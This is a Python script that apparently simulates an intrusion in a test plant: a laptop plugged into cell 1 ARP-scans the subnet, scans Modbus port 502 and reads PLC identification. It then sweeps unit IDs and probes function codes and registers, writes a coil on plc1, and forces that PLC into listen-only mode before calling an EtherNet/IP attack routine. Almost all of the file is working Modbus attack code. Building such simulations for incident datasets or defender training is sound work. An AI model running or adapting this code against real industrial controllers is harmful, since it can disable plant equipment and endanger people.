"""The incident: a laptop is plugged into cell 1, scans, identifies, probes, writes, disables; then
it turns to the palletiser in cell 3. What it does over OPC UA is in opcua.js.

    laptop.py T0

Its interface is down until then. The Modbus requests are bytes of our own on real TCP connections.
Only addresses of the plant's own namespaces are touched. What was done when goes to the log.
"""
import asyncio
import select
import socket
import struct
import subprocess
import sys
import time

import enip_cell
import plant

now, until = plant.clock(float(sys.argv[1]))
ME = plant.BY_NAME["laptop"]
MAC = bytes.fromhex(ME.mac.replace(":", ""))


def note(what, **more):
    print(f"{now():8.1f} s: {what}", *(f"{k}={v}" for k, v in more.items()), flush=True)


def plug_in():
    for command in (["ip", "link", "set", "eth0", "up"],
                    ["ip", "route", "add", "default", "via", plant.net(plant.CELL_1, 1)]):
        subprocess.run(command, check=True)


def arp_scan():
    """Asks for every address of the subnet, 20 a second of plant time, and says who answered."""
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
    raw.bind(("eth0", 0x0806))
    found, when = set(), now()
    for host in range(1, 255):
        target = socket.inet_aton(plant.net(plant.CELL_1, host))
        if host != 77:
            raw.send(b"\xff" * 6 + MAC + b"\x08\x06" +
                     struct.pack(">HHBBH", 1, 0x0800, 6, 4, 1) + MAC +
                     socket.inet_aton(ME.ip) + bytes(6) + target)
        when += 0.05
        until(when)
        while select.select([raw], [], [], 0)[0]:
            frame = raw.recv(128)
            if frame[20:22] == b"\x00\x02" and frame[:6] == MAC:
                found.add(socket.inet_ntoa(frame[28:32]))
    return sorted(found, key=socket.inet_aton)


def connect_scan(targets):
    """TCP connections to port 502, closed at once; given up after 3 s of plant time."""
    found = []
    for target in targets:
        with socket.socket() as s:
            s.settimeout(0.3)
            try:
                s.connect((target, 502))
                found.append(target)
            except OSError:
                pass
        time.sleep(0.01)
    return found


class Connection:
    def __init__(self, name):
        self.name, self.tid = name, 0
        self.socket = socket.create_connection((plant.BY_NAME[name].ip, 502), timeout=1)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def ask(self, unit, pdu, pause=0.5, answer=True):
        self.tid += 1
        self.socket.sendall(struct.pack(">HHHB", self.tid, 0, len(pdu) + 1, unit) + pdu)
        reply = b""
        if answer:
            reply = self.socket.recv(300)
        time.sleep(pause / plant.SPEED)
        return reply[7:]


def main():
    until(plant.INCIDENT_AT)
    note("plugged in")
    plug_in()
    until(plant.INCIDENT_AT + 6)
    note("ARP scan", targets=253)
    local = arp_scan()
    note("ARP scan done", answered=local)

    until(plant.INCIDENT_AT + 25)
    local_targets = local
    far = [plant.net(plant.CELL_2, h) for h in range(16, 32)]
    note("TCP scan of port 502", targets=local_targets + far)
    note("TCP scan done", open=connect_scan(local_targets + far))

    until(plant.INCIDENT_AT + 90)
    for name, unit in (("plc1", 1), ("plc2", 1), ("plc3", 255), ("plc4", 1), ("gw", 1)):
        note("reads device identification", server=name, unit=unit)
        with Connection(name) as c:
            c.ask(unit, bytes.fromhex("2b0e0100"))
            c.ask(unit, bytes.fromhex("2b0e0200"))

    until(plant.INCIDENT_AT + 104)
    note("sweeps unit ids", server="gw", first=1, last=32)
    with Connection("gw") as c:
        for unit in range(1, 33):
            c.ask(unit, bytes.fromhex("0300000001"), 0.3)

    until(plant.INCIDENT_AT + 120)
    note("tries functions", server="plc3", functions=[20, 24, 43, 65, 90])
    with Connection("plc3") as c:
        for pdu in ("1407060001000000 02", "180000", "2b0e0100", "4100", "5a0002"):
            c.ask(255, bytes.fromhex(pdu), 1)

    until(plant.INCIDENT_AT + 132)
    note("tries addresses", server="plc2", table="holding")
    with Connection("plc2") as c:
        for address in (0, 100, 400, 1000, 2000, 4000, 8000, 16000, 40000):
            c.ask(1, struct.pack(">BHH", 3, address, 10), 0.6)

    until(plant.INCIDENT_AT + 142)
    with Connection("plc1") as c:
        note("reads coils", server="plc1")
        c.ask(1, bytes.fromhex("0100000010"), 3)
        note("writes coil 4 on", server="plc1")
        c.ask(1, bytes.fromhex("050004ff00"), 4)
        note("restarts communications (8/1)", server="plc1")
        c.ask(1, bytes.fromhex("080001ff00"), 6)
        note("forces listen-only mode (8/4)", server="plc1")
        c.ask(1, bytes.fromhex("0800040000"), 2, answer=False)
    note("last Modbus connection closed")
    asyncio.run(enip_cell.attack(ME.ip, note))


main()
